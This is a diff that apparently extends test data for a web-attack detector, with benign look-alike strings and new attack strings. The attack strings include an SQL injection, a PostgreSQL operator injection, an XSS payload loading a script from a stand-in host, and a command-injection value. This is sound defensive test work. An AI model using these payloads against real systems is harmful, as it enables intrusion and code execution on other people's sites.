@@ -39,6 +39,12 @@ LOOK_ALIKES = [
     'document.querySelector("div.plain").classList.toggle("hidden");',
     "${process.stdout.columns}x${process.stdout.rows}",
     'git log "--format=%H" -n 1',
+    "-->\n<!--",  # an HTML comment, not an SQL one
+    'output = document.createElement("div");',
+    "(r'\\?' + valid_name, Name.Tag),",  # '?' is a string, not PostgreSQL's ? operator
+    "named with url.insteadOf setting in $HOME/.gitconfig did not work well.",
+    "Convert the true and false value of the intrinsic if function",
+    "Debian does not provide a `python` command, though `python3` does exist.",
 ]
 
 
@@ -75,6 +81,10 @@ ATTACKS = [
     "0/**/union/*!50000select*/table_name",
     'document.querySelector("p").textContent="XSS"',
     "x'||'a'='a",
+    "foo' or true--",
+    "OR '{\"a\":\"b\"}' ? 'a'",  # PostgreSQL's JSON key operator
+    'x.appendChild(document.createElement("script")).src="//e.example/x.js"',
+    ";python3 -c 'import os'",
 ]
 
 
